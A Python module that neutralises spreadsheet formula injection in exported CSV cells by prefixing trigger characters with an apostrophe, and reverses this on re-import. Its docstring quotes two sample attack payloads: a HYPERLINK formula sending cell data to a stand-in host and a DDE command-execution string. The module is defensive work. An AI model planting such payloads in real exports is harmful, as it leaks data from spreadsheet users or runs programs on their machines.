"""Spreadsheet formula injection: make exported text cells inert, and undo that on re-import.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking for those) is run as a formula when a CSV is opened in Excel,
LibreOffice or Google Sheets: `=HYPERLINK("https://evil.example/?"&A2, "Click")` sends data away,
`+cmd|' /C calc'!A0` ran programs through DDE. OWASP's advice, followed here: prefix such a cell
with an apostrophe, which every spreadsheet shows as text.
https://owasp.org/www-community/attacks/CSV_Injection

Full-width `＝ ＋ － ＠` are included: some spreadsheet applications fold them into the ASCII ones.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

TRIGGERS = frozenset("=+-@\t\r" + "\uff1d\uff0b\uff0d\uff20")
PREFIX = "'"


def neutralise(value: Any) -> Any:
    """The text made inert for a spreadsheet; anything that is not text passes through unchanged."""
    if isinstance(value, str) and value and value[0] in TRIGGERS:
        return PREFIX + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]


def restore(value: str) -> str:
    """Undo `neutralise` on text read back from a spreadsheet (an exported file imported again).

    Only the apostrophe that `neutralise` adds is removed: one directly before a trigger character.
    """
    if len(value) > 1 and value[0] == PREFIX and value[1] in TRIGGERS:
        return value[1:]
    return value
